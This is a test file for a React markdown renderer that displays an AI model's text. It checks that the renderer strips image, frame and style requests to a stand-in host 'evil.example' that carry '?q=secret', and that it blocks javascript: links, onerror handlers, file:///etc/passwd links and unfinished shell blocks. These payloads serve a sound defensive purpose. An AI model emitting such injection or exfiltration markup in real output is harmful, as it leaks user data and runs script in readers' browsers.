import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import MarkdownText from "./markdown-text.tsx";

const EVIL = "https://evil.example/?q=secret";
const TEXTS = {
  "a picture": `![look](${EVIL})`,
  "a picture by reference": `![look][1]\n\n[1]: ${EVIL}`,
  "a picture in a link": `[![look](${EVIL})](${EVIL})`,
  "a picture that is data": `![x](data:image/svg+xml,<svg onload=alert(1)>)`,
  "HTML with a picture": `Hello <img src="${EVIL}" onerror="alert(1)"> there`,
  "a block of HTML": `<div style="background:url(${EVIL})"><script>alert(1)</script></div>`,
  "a frame": `<iframe src="${EVIL}"></iframe>\n\n<object data="${EVIL}"></object>`,
  "a style sheet": `<link rel="stylesheet" href="${EVIL}"><style>@import url(${EVIL})</style>`,
  "a script as a link":
    "[go](javascript:alert(1)) [go](JaVaScRiPt:alert(1)) [go](\tjavascript:alert(1))",
  "other schemes as links":
    "[a](data:text/html,x) [b](vbscript:x) [c](file:///etc/passwd) [d](//evil.example)",
  "an address in angle brackets": "<javascript:alert(1)>",
  "a diagram": `\`\`\`mermaid\ngraph TD; A["<img src=${EVIL}>"]-->B; click A "javascript:alert(1)"\n\`\`\``,
  "a formula": `$$\\includegraphics{${EVIL}}$$`,
  "a cell": `| a |\n| - |\n| ![x](${EVIL}) |`,
  "what is not closed": `![look](${EVIL}`,
};

/** Elements that fetch nothing, with attributes that have no effect. */
const HARMLESS =
  /^<(?:a|blockquote|code|div|em|h[3-6]|hr|li|ol|p|pre|span|strong|t(?:able|body|d|h|head|r)|ul)(?: (?:class|dir|href|rel|target|title|data-[\w-]+)="[^"]*")*\s*\/?>$/;

describe("the model's text (A40)", () => {
  it.each(Object.entries(TEXTS))(
    "%s makes no request before a click, and runs nothing",
    (_what, text) => {
      for (const streaming of [true, false]) {
        const fullHtml = renderToStaticMarkup(<MarkdownText text={text} streaming={streaming} />);
        // The page's own button on every code block.
        const html = fullHtml.replaceAll(
          /<button [^<>]*"Copy the code"[^<>]*><svg.*?<\/button>/gs,
          "",
        );
        const tags = html.match(/<\w[^>]*>/g) ?? [];
        for (const tag of tags) expect(tag).toMatch(HARMLESS);
        for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https?:/);
      }
    },
  );

  it("links to web pages work, and show their address", () => {
    const html = renderToStaticMarkup(
      <MarkdownText text="[docs](https://a.example/b)" streaming={false} />,
    );
    expect(html).toContain('href="https://a.example/b"');
    expect(html).toContain('title="https://a.example/b"');
    expect(html).toContain("noopener noreferrer");
  });
});

describe("a code block in the model's text", () => {
  const draw = (language: string, streaming = false) =>
    renderToStaticMarkup(
      <MarkdownText text={`\`\`\`${language}\nnpm test\n\`\`\``} streaming={streaming} />,
    );

  it.each(["bash", "sh", "shell", "zsh"])("can be run with a click if it is %s", (language) => {
    expect(draw(language)).toContain('aria-label="Run in a terminal"');
  });

  it.each(["", "js", "console", "diff"])("cannot be run if it is %j", (language) => {
    expect(draw(language)).not.toContain("Run in a terminal");
  });

  it("cannot be run while it is still being written", () => {
    expect(draw("bash", true)).not.toContain("Run in a terminal");
  });
});
